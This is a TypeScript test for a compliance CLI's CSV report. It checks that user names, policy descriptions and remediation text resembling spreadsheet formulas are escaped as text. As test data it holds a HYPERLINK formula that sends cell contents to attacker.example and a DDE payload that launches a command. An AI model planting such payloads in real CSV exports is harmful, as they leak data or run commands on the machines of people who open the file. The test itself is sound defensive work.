import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { formulaLead, parseCsv } from '../support/csv.ts';
import { pciq } from '../support/pciq-cli.ts';
import { initDataDir } from '../support/pciq-process.ts';

describe('pciq report pci --format csv opened in a spreadsheet (CWE-1236)', () => {
  const data = initDataDir();
  const args = ['--data-dir', data.dataDir, '--key-file', data.keyFile];
  after(() => data.remove());

  it('writes a user name, a policy description and a remediation that look like formulas as text', () => {
    // Names IAM allows (`[\w+=,.@-]`) and a custom policy's free text, each a formula to a spreadsheet.
    const description = '=HYPERLINK("https://attacker.example/?leak="&A1,"Fix")';
    const remediation = "@SUM(1+1)*cmd|' /C calc'!A0";
    const created = pciq(['iam', 'create-user', '=1+2', ...args]);
    assert.equal(created.status, 0, created.stderr);
    const policies = join(data.dataDir, '..', 'policies.json');
    writeFileSync(
      policies,
      JSON.stringify({
        policies: [
          {
            name: 'every-user',
            description,
            resource: 'iam-user',
            severity: 'low',
            requirements: ['8.2.1'],
            remediation,
            filters: [],
          },
        ],
      }),
    );
    const out = join(data.dataDir, '..', 'report.csv');
    const report = pciq(['report', 'pci', '--format', 'csv', '--out', out, '--policies', policies, ...args]);
    assert.equal(report.status, 0, report.stderr);

    const [header, ...rows] = parseCsv(readFileSync(out, 'utf8'), ';');
    const column = (name: string) => header!.indexOf(name);
    const row = rows.find(
      (cells) => cells[column('CHECKID')] === 'every-user' && cells[column('RESOURCENAME')] === "'=1+2",
    );
    assert.ok(row, 'the user =1+2 reads back as the text =1+2, marked as text');
    assert.match(row[column('STATUSEXTENDED')]!, /^'=HYPERLINK\("https:\/\/attacker\.example\/\?leak="&A1,"Fix"\) /);
    assert.equal(row[column('REMEDIATION')], `'${remediation}`);
    for (const cells of rows) {
      assert.equal(cells.length, header!.length, 'every row keeps its columns');
      for (const cell of cells) assert.doesNotMatch(cell, formulaLead, 'no cell a spreadsheet runs as a formula');
    }
  });
});
